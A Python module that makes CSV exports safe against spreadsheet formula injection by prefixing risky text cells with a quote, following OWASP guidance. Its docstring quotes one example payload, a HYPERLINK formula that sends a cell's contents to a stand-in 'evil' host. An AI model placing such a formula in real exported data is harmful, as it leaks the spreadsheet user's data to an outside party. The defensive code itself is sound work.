"""CSV that is safe to open in a spreadsheet.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula: an organisation named `=HYPERLINK("http://evil/?"&A1,"Open")` would run in a
ministry official's spreadsheet. Following OWASP's guidance on CSV injection, such text cells are prefixed
with a single quote, which spreadsheets show as text and do not display; numbers are left as numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Litestar appends "; charset=utf-8" to text types itself; naming it here too wrote it twice.
CSV_MEDIA_TYPE = "text/csv"


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose every text cell is made safe first: the one way this platform writes CSV."""

    def __init__(self, handle: Any) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    out = io.StringIO()
    writer = SafeWriter(out)
    for row in rows:
        writer.writerow(row)
    return out.getvalue()
